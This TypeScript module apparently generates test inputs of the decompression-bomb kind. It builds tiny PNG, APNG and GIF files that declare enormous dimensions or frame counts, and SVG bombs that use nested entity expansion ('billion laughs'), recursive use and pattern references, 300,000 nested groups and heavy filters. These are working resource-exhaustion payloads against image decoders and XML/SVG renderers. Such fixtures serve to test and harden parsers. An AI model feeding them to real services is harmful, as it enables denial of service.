import { crc32, deflateSync } from 'node:zlib';

/* Pictures of a few kilobytes that are gigabytes when they are drawn. */

function chunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(data.length);
  sum.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, sum]);
}

const numbers = (...values: number[]): Buffer => {
  const bytes = Buffer.alloc(values.length * 4);
  values.forEach((value, i) => bytes.writeUInt32BE(value, i * 4));
  return bytes;
};

const SIGNATURE = Buffer.from('\x89PNG\r\n\x1a\n', 'latin1');

/** A white PNG of one bit a pixel, whole: all its rows are there. */
export function pngOf(width: number, height: number, frames = 1): Buffer {
  const rows = deflateSync(Buffer.alloc((1 + Math.ceil(width / 8)) * height, 0), { level: 9 });
  const head = chunk('IHDR', Buffer.concat([numbers(width, height), Buffer.from([1, 0, 0, 0, 0])]));
  if (frames === 1)
    return Buffer.concat([SIGNATURE, head, chunk('IDAT', rows), chunk('IEND', Buffer.alloc(0))]);
  // APNG (PNG, third edition): every frame after the first in an fdAT chunk, in the order of the numbers.
  const control = (number: number): Buffer =>
    chunk('fcTL', Buffer.concat([numbers(number, width, height, 0, 0), Buffer.from([0, 1, 0, 100, 0, 0])]));
  const more = Array.from({ length: frames - 1 }, (_, i) => [
    control(2 * i + 1),
    chunk('fdAT', Buffer.concat([numbers(2 * i + 2), rows])),
  ]);
  const parts = [SIGNATURE, head, chunk('acTL', numbers(frames, 0)), control(0), chunk('IDAT', rows)];
  return Buffer.concat([...parts, ...more.flat(), chunk('IEND', Buffer.alloc(0))]);
}

/** A GIF89a whose screen has that size; each frame is a pixel of it. */
export function gifOf(width: number, height: number, frames = 1): Buffer {
  const screen = Buffer.alloc(7);
  screen.writeUInt16LE(width, 0);
  screen.writeUInt16LE(height, 2);
  screen[4] = 0x80;
  const frame = Buffer.from([
    ...[0x21, 0xf9, 4, 0, 1, 0, 0, 0],
    ...[0x2c, 0, 0, 0, 0, 1, 0, 1, 0, 0, 2, 2, 0x44, 1, 0],
  ]);
  return Buffer.concat([
    ...[Buffer.from('GIF89a'), screen, Buffer.from([0, 0, 0, 255, 255, 255])],
    ...Array.from({ length: frames }, () => frame),
    Buffer.from([0x3b]),
  ]);
}

const svg = (inside: string, size = 'width="1600" height="900"'): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" ${size}>${inside}</svg>`;

/** Drawings that are short and never end. */
export const svgBombs = (): Readonly<Record<string, string>> => {
  const uses = Array.from(
    { length: 12 },
    (_, i) => `<g id="u${i + 1}">${`<use xlink:href="#u${i}"/>`.repeat(10)}</g>`,
  ).join('');
  const entities = Array.from({ length: 12 }, (_, i) => `<!ENTITY e${i + 1} "${`&e${i};`.repeat(10)}">`);
  const inner = pngOf(23_000, 23_000).toString('base64');
  return {
    'of 60000x60000': svg('<rect width="60000" height="60000"/>', 'width="60000" height="60000"'),
    'of copies of copies': svg(
      `<defs><g id="u0"><path d="M0 0h9v9z"/></g>${uses}</defs><use xlink:href="#u12"/>`,
    ),
    'of entities in entities': `<!DOCTYPE svg [<!ENTITY e0 "x">${entities.join('')}]>${svg('<text>&e12;</text>')}`,
    'with a picture of 23000x23000 within': svg(
      `<image width="1600" height="900" xlink:href="data:image/png;base64,${inner}"/>`,
    ),
    'of filters over filters': svg(
      `<filter id="f" x="-9999" y="-9999" width="99999" height="99999">${'<feTurbulence baseFrequency="0.9" numOctaves="99"/><feGaussianBlur stdDeviation="900"/>'.repeat(50)}</filter>${'<rect width="1600" height="900" filter="url(#f)"/>'.repeat(50)}`,
    ),
    'of groups in groups': svg(`${'<g>'.repeat(300_000)}${'</g>'.repeat(300_000)}`),
    'of patterns in patterns': svg(
      `${Array.from({ length: 12 }, (_, i) => `<pattern id="p${i + 1}" width="1" height="1" patternUnits="userSpaceOnUse">${`<rect width="1" height="1" fill="url(#p${i})"/>`.repeat(10)}</pattern>`).join('')}<rect width="1600" height="900" fill="url(#p12)"/>`,
    ),
  };
};
